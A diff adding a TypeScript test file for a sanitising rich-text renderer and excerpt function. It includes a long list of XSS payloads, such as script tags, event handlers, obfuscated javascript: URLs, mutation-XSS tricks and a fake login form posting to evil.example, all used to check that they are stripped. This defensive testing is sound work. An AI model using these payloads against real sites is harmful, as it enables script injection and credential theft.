@@ -1,0 +1,330 @@
+import { describe, expect, test } from 'vitest'
+import { excerptOf, type RichNode, renderRichText } from './rich-text.server.ts'
+
+const tags = new Set(
+  'p h2 h3 h4 a img ul ol li strong em del code pre blockquote hr br table thead tbody tr th td'.split(
+    ' ',
+  ),
+)
+const attributesOf: Record<string, string[]> = {
+  a: ['href', 'title'],
+  img: ['src', 'alt', 'title'],
+  th: ['align'],
+  td: ['align'],
+  ol: ['start'],
+}
+
+const ownPath = /^\/(?![/\\])[^\s\\]*$/
+const mayLink = (address: string) =>
+  /^(https:\/\/|#|mailto:|tel:)/i.test(address) || ownPath.test(address)
+const mayLoad = (address: string) => /^https:\/\//i.test(address) || ownPath.test(address)
+
+/** Everything in a tree that may not be there. */
+function offences(nodes: RichNode[]): string[] {
+  return nodes.flatMap((node) => {
+    if (typeof node === 'string') return []
+    const { tag, attributes = {}, children } = node
+    const found = tags.has(tag) ? [] : [`<${tag}>`]
+    for (const [name, value] of Object.entries(attributes)) {
+      if (!attributesOf[tag]?.includes(name)) found.push(`${tag} ${name}`)
+      if (name === 'href' && !mayLink(value)) found.push(`href ${value}`)
+      if (name === 'src' && !mayLoad(value)) found.push(`src ${value}`)
+    }
+    return [...found, ...offences(children)]
+  })
+}
+
+const wordsOf = (nodes: RichNode[]): string =>
+  nodes.map((node) => (typeof node === 'string' ? node : wordsOf(node.children))).join('')
+
+const find = (nodes: RichNode[], tag: string): Exclude<RichNode, string>[] =>
+  nodes.flatMap((node) => {
+    if (typeof node === 'string') return []
+    return [...(node.tag === tag ? [node] : []), ...find(node.children, tag)]
+  })
+
+const payloads = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+  '<script>alert(1)',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg onload=alert(1)>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
+  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<math href="javascript:alert(1)">x</math>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://a.example/x.png" onerror="alert(1)" onload=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+  '<img src="http://a.example/x.png">',
+  '<img src="//evil.example/x.png">',
+  '<img src="/\\evil.example/x.png">',
+  '<img src="mailto:a@example.com">',
+  '<img srcset="https://evil.example/x.png 1x" src="/media/x.svg">',
+  '<img src="/media/x.svg" style="position:fixed;inset:0" class="overlay" id="root">',
+  '<img """><script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<a href="java&Tab;script:alert(1)">x</a>',
+  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
+  '<a href="&#1;javascript:alert(1)">x</a>',
+  '<a href="javascript://example.com/%0aalert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="blob:https://example.com/1">x</a>',
+  '<a href="file:///etc/passwd">x</a>',
+  '<a href="http://example.com">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="\\\\evil.example">x</a>',
+  '<a href="/\\evil.example">x</a>',
+  '<a href="/&#9;/evil.example">x</a>',
+  '<a href="/&#10;/evil.example">x</a>',
+  '<a href="/blog" onclick="alert(1)" target="_blank" ping="https://evil.example" download>x</a>',
+  '[x](javascript:alert(1))',
+  '[x](JAVASCRIPT:alert(1) "title")',
+  '[x](java&#x0A;script:alert(1))',
+  '[x](<java\tscript:alert(1)>)',
+  '[x](//evil.example)',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '![x](javascript:alert(1))',
+  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
+  '![x](http://a.example/x.png)',
+  '![x](https://a.example/x.png"onerror="alert(1))',
+  '[x][1]\n\n[1]: javascript:alert(1)',
+  '<javascript:alert(1)>',
+  '<style>body{background:url(https://evil.example)}</style>',
+  '<style>@import "https://evil.example/x.css";',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<p style="position:fixed;inset:0" class=modal id=root data-close>x</p>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<object data="https://evil.example/x.swf"></object>',
+  '<embed src="https://evil.example/x.swf">',
+  '<video src="https://evil.example/x.mp4" onerror=alert(1) autoplay></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
+  '<button onclick=alert(1)>x</button>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<input autofocus onfocus=alert(1)>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<body onload=alert(1)>',
+  '<html onmouseover=alert(1)><head><title>x</title></head>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<textarea></textarea><img src=x onerror=alert(1)>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><script>alert(1)</script>',
+  '<table background="https://evil.example/x.png"><tr><td onclick=alert(1) style=x>x</td></tr></table>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<custom-element onclick=alert(1) is=x>x</custom-element>',
+  '<h1 id=main>x</h1>',
+  '- [x] <input type=image src=https://evil.example onclick=alert(1)>',
+  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
+  '<ol start="javascript:alert(1)" type=a reversed><li value=7>x</li></ol>',
+  '<td align="javascript:alert(1)">x</td>',
+  '<a href="https://a.example" href="javascript:alert(1)">x</a>',
+  '<del cite="javascript:alert(1)">x</del><blockquote cite="javascript:alert(1)">x</blockquote>',
+  '<a name="x" id="y" href="#z">x</a>',
+]
+
+describe('a hostile text', () => {
+  test.each(payloads)('%s leaves only what is allowed', (payload) => {
+    for (const text of [`kept\n\n${payload}`, `<p>kept</p>${payload}`, `**kept** ${payload}`]) {
+      const nodes = renderRichText(text)
+      expect(offences(nodes)).toEqual([])
+      expect(wordsOf(nodes)).toContain('kept')
+    }
+  })
+
+  test('leaves no words of a script or a style', () => {
+    const text = 'one <script>alert(1)</script> two <style>p { color: red }</style> three'
+    expect(wordsOf(renderRichText(text)).split(/\s+/)).toEqual(['one', 'two', 'three'])
+  })
+
+  test('that nests 20,000 deep still gives an answer', () => {
+    for (const open of ['<blockquote>', '<b>', '> ']) {
+      const nodes = renderRichText(`${open.repeat(20_000)}x`)
+      expect(offences(nodes)).toEqual([])
+    }
+  })
+
+  test('is seen by the check itself', () => {
+    const bad: RichNode[] = [
+      { tag: 'p', children: [{ tag: 'script', children: [] }] },
+      { tag: 'a', attributes: { href: 'javascript:alert(1)', onclick: 'x' }, children: [] },
+      { tag: 'img', attributes: { src: '//evil.example' }, children: [] },
+    ]
+    expect(offences(bad)).toEqual([
+      '<script>',
+      'href javascript:alert(1)',
+      'a onclick',
+      'src //evil.example',
+    ])
+  })
+})
+
+describe('a text', () => {
+  test('may be plain', () => {
+    expect(renderRichText('Just words & 3 < 4.')).toEqual([
+      { tag: 'p', children: ['Just words & 3 < 4.'] },
+    ])
+  })
+
+  test('may be nothing', () => {
+    expect(renderRichText('')).toEqual([])
+  })
+
+  test('may be Markdown', () => {
+    const nodes = renderRichText(
+      '## Head\n\nA **bold** [link](/blog) and ~~not~~ `code`.\n\n3. x\n',
+    )
+    expect(nodes.filter((node) => node !== '\n')).toEqual([
+      { tag: 'h2', children: ['Head'] },
+      {
+        tag: 'p',
+        children: [
+          'A ',
+          { tag: 'strong', children: ['bold'] },
+          ' ',
+          { tag: 'a', attributes: { href: '/blog' }, children: ['link'] },
+          ' and ',
+          { tag: 'del', children: ['not'] },
+          ' ',
+          { tag: 'code', children: ['code'] },
+          '.',
+        ],
+      },
+      {
+        tag: 'ol',
+        attributes: { start: '3' },
+        children: ['\n', { tag: 'li', children: ['x'] }, '\n'],
+      },
+    ])
+  })
+
+  test('may be HTML', () => {
+    const html = '<h3>Head</h3><div><p>One<br>two &amp; <em>three</em></p></div>'
+    expect(renderRichText(html)).toEqual([
+      { tag: 'h3', children: ['Head'] },
+      {
+        tag: 'p',
+        children: [
+          'One',
+          { tag: 'br', children: [] },
+          'two & ',
+          { tag: 'em', children: ['three'] },
+        ],
+      },
+    ])
+  })
+
+  test('may hold a table with aligned columns', () => {
+    const nodes = renderRichText('| Day | Hours |\n|:--|--:|\n| One | 8 |\n')
+    expect(find(nodes, 'th').map(({ attributes, children }) => [attributes, children])).toEqual([
+      [{ align: 'left' }, ['Day']],
+      [{ align: 'right' }, ['Hours']],
+    ])
+    expect(find(nodes, 'td').map(({ children }) => children)).toEqual([['One'], ['8']])
+    expect(offences(nodes)).toEqual([])
+  })
+
+  test('has no empty heading in a table', () => {
+    const nodes = renderRichText('| | Hours |\n|--|--|\n| One | 8 |\n')
+    expect(find(nodes, 'th').map(({ children }) => children)).toEqual([['Hours']])
+    expect(find(nodes, 'td')).toHaveLength(3)
+  })
+
+  test.each([
+    'https://example.com/a?b=c#d',
+    '/blog/a',
+    '#part',
+    'mailto:hello@example.com',
+    'tel:+923000000000',
+  ])('may link to %s', (address) => {
+    for (const text of [`[x](${address})`, `<a href="${address}">x</a>`]) {
+      expect(find(renderRichText(text), 'a')).toEqual([
+        { tag: 'a', attributes: { href: address }, children: ['x'] },
+      ])
+    }
+  })
+
+  test.each(['https://example.com/a.png', '/media/blog/a.svg'])(
+    'may show the picture %s',
+    (src) => {
+      for (const text of [`![A kite](${src} "Up")`, `<img src="${src}" alt="A kite" title="Up">`]) {
+        expect(find(renderRichText(text), 'img')).toEqual([
+          { tag: 'img', attributes: { src, alt: 'A kite', title: 'Up' }, children: [] },
+        ])
+      }
+    },
+  )
+
+  test('keeps the words of a link or an element that may not stay', () => {
+    expect(wordsOf(renderRichText('[read on](javascript:alert(1)) <font>now</font>'))).toBe(
+      'read on now',
+    )
+  })
+})
+
+describe('an excerpt', () => {
+  const letters = 'abcdefghij'.repeat(14)
+
+  test.each([0, 1, 129, 130])(
+    'of %i characters is the whole text, without an ellipsis',
+    (length) => {
+      expect(excerptOf(letters.slice(0, length))).toBe(letters.slice(0, length))
+    },
+  )
+
+  test.each([131, 140])('of %i characters is its first 130 and an ellipsis', (length) => {
+    expect(excerptOf(letters.slice(0, length))).toBe(`${letters.slice(0, 130)}…`)
+  })
+
+  test('counts what is seen: an emoji is one, and never broken', () => {
+    expect(excerptOf('🪁'.repeat(130))).toBe('🪁'.repeat(130))
+    expect(excerptOf('🪁'.repeat(131))).toBe(`${'🪁'.repeat(130)}…`)
+    expect(excerptOf(`a${'🪁'.repeat(131)}`).isWellFormed()).toBe(true)
+  })
+
+  test.each([
+    ['&amp;', '&'],
+    ['&lt;', '<'],
+    ['&#x1FA81;', '🪁'],
+    ['&eacute;', 'é'],
+  ])('decodes %s before it counts', (entity, character) => {
+    expect(excerptOf(`${entity.repeat(130)}`)).toBe(character.repeat(130))
+    expect(excerptOf(`${entity.repeat(131)}`)).toBe(`${character.repeat(130)}…`)
+  })
+
+  test.each([
+    [
+      '# Head\n\nText with **bold** and [a link](https://example.com).',
+      'Head Text with bold and a link.',
+    ],
+    ['<h2>Head</h2><p>One <b>two</b></p><p>Three</p>', 'Head One two Three'],
+    ['One<br>two<hr>three', 'One two three'],
+    ['- one\n- two\n\n1. three', 'one two three'],
+    ['Before ![a picture](https://example.com/a.png) after', 'Before after'],
+    ['<script>alert(1)</script><style>p{}</style>Seen', 'Seen'],
+    ['<!-- a note -->Seen', 'Seen'],
+    ['  One\n\n\n  two\tthree  ', 'One two three'],
+    ['3 < 4 && 5 > 4', '3 < 4 && 5 > 4'],
+    ['', ''],
+    ['<p></p>', ''],
+  ])('of %j holds no markup: %j', (text, excerpt) => {
+    expect(excerptOf(text)).toBe(excerpt)
+  })
+
+  test('counts the text and not its markup', () => {
+    const marked = letters.replaceAll('abcde', '<b class="long">abcde</b>')
+    expect(excerptOf(marked)).toBe(`${letters.slice(0, 130)}…`)
+  })
+})
